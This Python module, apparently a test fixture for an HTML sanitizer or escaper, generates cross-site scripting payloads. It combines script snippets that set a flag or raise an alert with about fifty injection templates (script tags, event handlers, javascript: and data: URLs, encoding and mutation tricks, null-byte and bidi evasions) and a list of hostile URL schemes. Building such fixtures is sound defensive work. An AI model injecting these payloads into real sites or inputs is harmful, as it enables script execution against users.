"""Hostile texts and addresses: what to run, times the ways to smuggle it in; each sets window.owned or opens a box."""

RUN = ("window.owned=1", "alert(1)", "window.owned=`1`", "setTimeout('window.owned=1')")
SMUGGLED = (
    "<script>{run}</script>",
    "</title><script>{run}</script>",
    "<img src=x onerror=\"{run}\">",
    "<svg onload=\"{run}\">",
    "<svg><script>{run}</script></svg>",
    "\"><script>{run}</script>",
    "'><img src=x onerror=\"{run}\">",
    "\" autofocus onfocus=\"{run}\" x=\"",
    "' onmouseover='{run}' x='",
    "<body onload=\"{run}\">",
    "<details open ontoggle=\"{run}\">",
    "<iframe srcdoc=\"<script>parent.{run}</script>\"></iframe>",
    "<iframe src=\"javascript:parent.{run}\"></iframe>",
    "<input autofocus onfocus=\"{run}\">",
    "<video><source onerror=\"{run}\"></video>",
    "<math><mtext><table><mglyph><style><img src=x onerror=\"{run}\"></style></mglyph></table></mtext></math>",
    "<noscript><p title=\"</noscript><img src=x onerror={run}>\"></noscript>",
    "<!--><img src=x onerror=\"{run}\">-->",
    "<![CDATA[><script>{run}</script>]]>",
    "<scr<script>ipt>{run}</scr</script>ipt>",
    "<SCRIPT\t>{run}</SCRIPT\n>",
    "&lt;script&gt;{run}&lt;/script&gt;",
    "&amp;lt;img src=x onerror={run}&amp;gt;",
    "&#60;img src=x onerror={run}&#62;",
    "<a href=\"javascript:{run}\" autofocus onfocus=\"{run}\">read</a>",
    "<form><button formaction=\"javascript:{run}\" autofocus onfocus=\"{run}\">go</button></form>",
    "<object data=\"javascript:{run}\"></object>",
    "<embed src=\"javascript:{run}\">",
    "<meta http-equiv=refresh content=\"0;url=javascript:{run}\">",
    "<base href=\"javascript:{run}//\">",
    "<link rel=stylesheet href=\"javascript:{run}\"><style>@import 'javascript:{run}';</style>",
    "<textarea></textarea><script>{run}</script>",
    "</textarea></select></option><script>{run}</script>",
    "<select><option></select><img src=x onerror=\"{run}\">",
    "<marquee onstart=\"{run}\">news</marquee>",
    "<audio src=x onerror=\"{run}\">",
    "<template><script>{run}</script></template><img src=x onerror=\"{run}\">",
    "{{{{ ''.__class__ }}}} {{% raw %}}<script>{run}</script>",
    "\u2028<script>{run}</script>\u2029",
    "\x00<scr\x00ipt>{run}</script>",
    "\ufeff<img\u00a0src=x onerror=\"{run}\">",
    "\u202e<script>{run}</script>\u202c",
    "<svg><animate onbegin=\"{run}\" attributeName=x dur=1s>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>{run}</script></svg>#x\"/>",
    "<p style=\"background:url(javascript:{run})\">chip</p>",
    "<x contenteditable onblur=\"{run}\" onfocus=\"{run}\" autofocus tabindex=1>chip</x>",
    "`${{{run}}}` <img src=`x` onerror=\"{run}\">",
    "<img/src/onerror=\"{run}\">",
    "<img src=x:x onerror\n=\n\"{run}\">",
    "%3Cscript%3E{run}%3C/script%3E <script>{run}</script>",
)  # fmt: skip
ADDRESSES = (
    "javascript:{run}", "JaVaScRiPt:{run}", " javascript:{run}", "java\tscript:{run}",
    "javascript:{run}//https://a.example",
    "data:text/html,<script>{run}</script>", "vbscript:{run}", "https://a.example/\"onclick=\"{run}",
    "https://a.example/'><script>{run}</script>", "//a.example\"><img src=x onerror={run}>", "http://[",
    "about:blank#{run}",
)  # fmt: skip


def texts() -> list[str]:
    """Every way with everything there is to run."""
    return [way.format(run=run) for way in SMUGGLED for run in RUN]


def addresses() -> list[str]:
    return [address.format(run=RUN[number % len(RUN)]) for number, address in enumerate(ADDRESSES)]
